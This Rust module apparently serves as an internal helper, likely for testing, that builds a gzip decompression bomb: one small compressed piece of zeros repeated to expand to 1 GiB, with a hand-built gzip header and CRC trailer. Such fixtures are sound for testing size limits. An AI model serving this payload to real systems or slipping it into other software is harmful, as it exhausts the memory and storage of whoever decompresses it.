//! A body that is small on the wire and huge once it is unpacked.

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

use crate::body::Body;

/// Bytes of zeros in one piece, and how many pieces there are.
const PIECE: usize = 1 << 20;
const PIECES: u32 = 1024;

/// 1 GiB of zeros as one gzip member of about 1 MiB.
///
/// It is made without compressing 1 GiB: a piece that ends in a full flush refers to nothing before
/// it, so the same compressed piece can be sent again and again.
pub(crate) fn bomb() -> Body {
    let zeros = vec![0; PIECE];
    let mut piece = Vec::with_capacity(16 << 10);
    let mut deflate = Compress::new(Compression::best(), false);
    // Writing into memory with room to spare: the only failure is a stream error, which a fresh
    // compressor does not have. The piece would then be empty and the body invalid.
    let _ = deflate.compress_vec(&zeros, &mut piece, FlushCompress::Full);

    let mut sum = Crc::new();
    sum.update(&zeros);
    let mut one = Crc::new();
    one.update(&zeros);
    for _ in 1..PIECES {
        sum.combine(&one);
    }
    // An empty last block, the checksum and the length.
    let mut tail = vec![0x03, 0x00];
    tail.extend(sum.sum().to_le_bytes());
    tail.extend(sum.amount().to_le_bytes());
    let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];
    Body::repeat(Bytes::copy_from_slice(&head), Bytes::from(piece), PIECES.into(), tail.into())
}
